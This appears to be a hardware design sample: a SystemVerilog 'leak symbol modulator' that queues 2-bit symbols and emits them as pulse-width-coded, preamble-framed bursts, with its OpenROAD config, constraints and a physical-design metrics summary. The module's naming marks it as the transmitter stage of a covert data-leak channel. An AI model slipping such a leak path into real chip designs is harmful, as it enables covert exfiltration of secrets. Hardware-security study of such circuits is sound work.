--- src/rtl/leak_symbol_modulator.sv ---
// Buffers 2-bit leak symbols in a FIFO and drains them as pulse-width-coded windows
// framed by an alternating preamble and a forced-low gap.
module leak_symbol_modulator #(
  parameter int FIFO_DEPTH   = 16,
  parameter int SYM_CYCLES   = 8,
  parameter int PREAMBLE_LEN = 4,
  parameter int GAP_CYCLES   = 2
) (
  input  logic       clk,
  input  logic       rst_all,
  input  logic       enable,
  input  logic [1:0] sym,
  output logic       out,
  output logic       busy,
  output logic       overflow,
  output logic [1:0] dbg_state
);

  typedef enum logic [1:0] {
    S_IDLE = 2'd0,
    S_PRE  = 2'd1,
    S_SYM  = 2'd2,
    S_GAP  = 2'd3
  } state_t;

  localparam int AW = $clog2(FIFO_DEPTH);
  localparam int CW = AW + 1;
  localparam int PH_MAX = (SYM_CYCLES > PREAMBLE_LEN) ?
                          ((SYM_CYCLES > GAP_CYCLES) ? SYM_CYCLES : GAP_CYCLES) :
                          ((PREAMBLE_LEN > GAP_CYCLES) ? PREAMBLE_LEN : GAP_CYCLES);
  localparam int PW = $clog2(PH_MAX + 1);
  localparam int HW = PW + 1;
  localparam logic [PW-1:0] PH_PRE_LAST = PW'(PREAMBLE_LEN - 1);
  localparam logic [PW-1:0] PH_SYM_LAST = PW'(SYM_CYCLES - 1);
  localparam logic [PW-1:0] PH_GAP_LAST = PW'(GAP_CYCLES - 1);
  localparam logic [HW-1:0] HI_STEP     = HW'(SYM_CYCLES / 8);

  state_t        r_state;
  logic [PW-1:0] r_ph;
  logic          r_out;
  logic          r_overflow;
  logic [1:0]    r_cur;
  logic [AW-1:0] r_wr;
  logic [AW-1:0] r_rd;
  logic [CW-1:0] r_count;
  logic [1:0]    r_mem [FIFO_DEPTH];

  state_t        w_state_nxt;
  logic [PW-1:0] w_ph_nxt;
  logic          w_out_nxt;
  logic          w_pop;
  logic          w_push;
  logic          w_full;
  logic          w_empty;
  logic [HW-1:0] w_hi;

  assign w_full  = (r_count == CW'(FIFO_DEPTH));
  assign w_empty = (r_count == '0);
  // A full FIFO still accepts a symbol on an edge where the modulator pops.
  assign w_push  = enable && (!w_full || w_pop);
  assign w_hi    = (HW'(r_cur) + HW'(1)) * HI_STEP;

  always_comb begin
    w_state_nxt = r_state;
    w_ph_nxt    = r_ph;
    w_out_nxt   = 1'b0;
    w_pop       = 1'b0;
    case (r_state)
      S_IDLE: begin
        if (!w_empty) begin
          // The first preamble clock is emitted on the entry edge.
          w_state_nxt = S_PRE;
          w_ph_nxt    = PW'(1);
          w_out_nxt   = 1'b1;
        end
      end
      S_PRE: begin
        w_out_nxt = ~r_ph[0];
        if (r_ph == PH_PRE_LAST) begin
          w_pop       = 1'b1;
          w_state_nxt = S_SYM;
          w_ph_nxt    = '0;
        end else begin
          w_ph_nxt = r_ph + PW'(1);
        end
      end
      S_SYM: begin
        w_out_nxt = ({1'b0, r_ph} < w_hi);
        if (r_ph == PH_SYM_LAST) begin
          w_ph_nxt = '0;
          if (!w_empty) w_pop = 1'b1;
          else          w_state_nxt = S_GAP;
        end else begin
          w_ph_nxt = r_ph + PW'(1);
        end
      end
      default: begin
        if (r_ph == PH_GAP_LAST) begin
          w_state_nxt = S_IDLE;
          w_ph_nxt    = '0;
        end else begin
          w_ph_nxt = r_ph + PW'(1);
        end
      end
    endcase
  end

  always_ff @(posedge clk or posedge rst_all) begin
    if (rst_all) begin
      r_state    <= S_IDLE;
      r_ph       <= '0;
      r_out      <= 1'b0;
      r_overflow <= 1'b0;
      r_cur      <= '0;
      r_wr       <= '0;
      r_rd       <= '0;
      r_count    <= '0;
    end else begin
      r_state <= w_state_nxt;
      r_ph    <= w_ph_nxt;
      r_out   <= w_out_nxt;
      if (enable && w_full && !w_pop) r_overflow <= 1'b1;
      if (w_push) r_wr <= r_wr + AW'(1);
      if (w_pop) begin
        r_cur <= r_mem[r_rd];
        r_rd  <= r_rd + AW'(1);
      end
      case ({w_push, w_pop})
        2'b10:   r_count <= r_count + CW'(1);
        2'b01:   r_count <= r_count - CW'(1);
        default: r_count <= r_count;
      endcase
    end
  end

  // Storage needs no reset; occupancy is tracked by the pointers and count.
  always_ff @(posedge clk) begin
    if (w_push) r_mem[r_wr] <= sym;
  end

  assign out       = r_out;
  assign overflow  = r_overflow;
  assign busy      = (r_state != S_IDLE) || !w_empty;
  assign dbg_state = r_state;

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = leak_symbol_modulator
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/leak_symbol_modulator.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CORE_ASPECT_RATIO = 1.75
export CORE_UTILIZATION = 40
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.05
export REMOVE_ABC_BUFFERS = 1
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 10
--- constraint.sdc ---
create_clock -name clk -period 3.3 [get_ports clk]
set_input_delay 0.33 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.33 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> summary.txt <==
Outcome
  • Status: finished clean

Placed design
  • Cells after DPL: between 300 and 400
  • PortBufs: 9
  • Final HPWL DP: ~4200 µm

Logic synthesis
  • Syn_area_per_cell: 12.68 µm²
  • Top_reg_cell synth: edfxtp_1
  • Mapped Area: roughly 2900 µm²
  • Cell variety after synth: between 50 and 60
  • Synth area leader: edfxtp_1
  • Post-synthesis instance total: 226
  • Area contributors post-synth: edfxtp_1 (34%), dfrtp_1 (20%), ha_1 (6.6%)
  • Warnings from Yosys: 0
  • Async set-reset flop share out of synthesis: between 40% and 50%
  • Top cell type's share of synthesized area: 33.54%
  • Register area share after synthesis: 53.62%
  • #FFs+latches synth: 55
  • EDFF count, synth: 32

Global route
  • Grt total ovfl: 0
  • Global-route usage over all layers: around 17%
  • Initial antenna violation count: 0
  • First-pass GRT wire length: 9321 µm
  • Vias in the first global route: ~1.9k
  • Largest net degree at the start of global routing: 24

Route
  • Vias per cell: ~5.6
  • Initial drt markers: between 70 and 80
  • Detailed-route wire length per cell: around 18 µm
  • DR vias: roughly 1.8k
  • WL final: ~5600 µm
  • DR DRC count: 0
  • TritonRoute pass-1 iters: 4
  • Post-route ant nets: 0

Floorplanning
  • Placement Rows: 40
  • Starting Density: ~41%
  • Die width: about 66 µm
  • Num ports: 10
  • Die ar.: between 7000 and 8000 µm²
  • Die H: approximately 110 µm
  • Core footprint: between 6000 and 7000 µm²

Worst setup path
  • Crit path required time: ~3.5 ns
  • Critical Path End Type: register
  • Max FO, Critical Path: 8
  • Critical Path AT: between 2 and 3 ns
  • Setup crit start kind: register
  • Critical path type: reg -> reg

STA
  • RSZ-0062 raised after global routing: no
  • Rel. slew slack: a little under two fifths
  • Fin crit share: 82.24%
  • Setup violations, final: 0
  • Max-slew violations: 0
  • Tmin final: about 2.7 ns
  • Clock Skew: approximately 0.006 ns
  • Fmax: 368.5 MHz
  • Fin Hold WS: slightly below 0.5 ns
  • Worst Tran Pin Value: 0.9440 ns
  • Hold Vio Cnt, Final: 0
  • Setup TNS: 0 ns

Clock network
  • H-Tree Depth: 2
  • Clk_lat worst skew: about 0.29 ns
  • Post-CTS Resized: 0
  • CTS tree: done
  • Num Clock Sinks: 55
  • Clock Path Buffers: 2
  • Clock Tree Root: clkbuf_16
  • Post-CTS Hold Buffers: 0
  • TritonCTS buffer count: 5
  • Clock Pin Slew Worst Setup and Hold Paths: 0.07 ns
  • Setup Fix Bufs, Post-CTS: 0

Layout
  • Area grow syn2layout: 10.35%
  • Finished Layout Cells: between 300 and 400
  • # diodes: 0
  • Fillers: about 640
  • Most common cell after layout, fill and taps aside: edfxtp_1
  • Most frequent cells in the layout: edfxtp_1 (32), dfrtp_1 (23), nor2_1 (19)
  • Nets@finish: around 250
  • Share of layout cells above drive strength 1: about 14%

Power
  • PwrDens: ~830 nW/µm²
  • Total Power: roughly 2.6 mW
  • Worst VDD drop: 0.4480 mV
  • Static leakage: between 1 and 1.5 nW

Hold path
  • Hold crit path type: reg -> reg

Job
  • Max-cap viol count: 0
worst paths after layout:
kind | startpoint | to | slack, ns | depth (start not counted)
hold reg to reg | overflow$_DFFE_PP0P_ | overflow$_DFFE_PP0P_ | 0.48 | 1
max in group asynchronous | rst_all | r_wr[0]$_DFFE_PP0P_ | 2.18 | 2
setup / recovery | dbg_state[0]$_DFFE_PP0P_ | r_count[4]$_DFFE_PP0P_ | 0.59 | 10
min in group asynchronous | rst_all | r_ph[3]$_DFFE_PP0N_ | 0.55 | 2
setup reg to reg | dbg_state[0]$_DFFE_PP0P_ | r_count[4]$_DFFE_PP0P_ | 0.59 | 10
hold / removal | overflow$_DFFE_PP0P_ | overflow$_DFFE_PP0P_ | 0.48 | 1
kinds of logic after synthesis:
family | count (synthesis) | share of synthesized area [%]
AOI/OAI and AO/OA | 34 | 9.083
xor gates and xnor gates | 8 | 2.446
adders and majority gates | 15 | 6.550
and+or+nand+nor | 60 | 11.18
buffers and inverters | 28 | 4.061
muxes | 26 | 13.06
DFF | 55 | 53.62
cells in the mapped netlist, types with 4 or more instances:
library cell,number
a31oi_1,4
clkbuf_1,5
dfrtp_1,23
edfxtp_1,32
ha_1,15
inv_1,16
mux2_2,7
mux2i_1,10
mux4_2,8
nand2_1,8
nand3_1,5
nor2_1,19
nor3_1,8
o211ai_1,5
o21ai_0,6
xnor2_1,7
cell type report:
type / instances / area, µm² / share of cell area [%]
sequential: 55 / 1536 / 48.60
multi-input combinational: 143 / 1212 / 38.35
clock buffer: 5 / 125.1 / 3.957
timing repair buffer: 11 / 105.1 / 3.324
tap: 84 / 105.1 / 3.324
inverter: 16 / 60.06 / 1.899
clock inverter: 3 / 17.52 / 0.5540
report_power, final:
part,switching [mW],internal (mW)
sequential,0.240,0.897
clock,0.237,0.280
combinational,0.489,0.482
total,0.966,1.66
critical path, stage by stage (launching register included):
cell and delay [ns]:
dfrtp_1 0.41, inv_1 0.12, ha_1 0.32, mux2i_1 0.19
a211oi_4 0.20, nand2_1 0.09, xnor2_1 0.14, ha_1 0.25
nor4_1 0.49, a31oi_1 0.15, a221oi_1 0.26
layer usage:
| layer | global-route usage [%] | share of wire (%) | up-vias |
|---|---|---|---|
| li1 | - | - | 846 |
| met3 | 3.000 | 1.8 | 6 |
| met1 | 16.74 | 36 | 881 |
| met4 | 5.816 | 1.5 | 0 |
| met2 | 33.74 | 60 | 27 |
| met5 | 0 | 0 | - |
registers in the layout, indices dropped and copies added (netlist names):
signal,cells
r_ph,4
r_count,5
r_rd,4
dbg_state,2
overflow,1
out,1
r_wr,4
r_cur,2
r_mem,32
metrics by stage:
step / utilization, % / setup WS [ns] / area (µm²)
detailed placement: 43.71 / 0.6032 / 3019
global route: 45.78 / 0.3367 / 3162
floorplan: - / 0.3566 / 2809
global placement: 43.71 / 0.6877 / 3019
finish: 45.78 / 0.5862 / 3162
CTS: 45.78 / 0.6025 / 3162
Power figures use the tool's default switching activity.
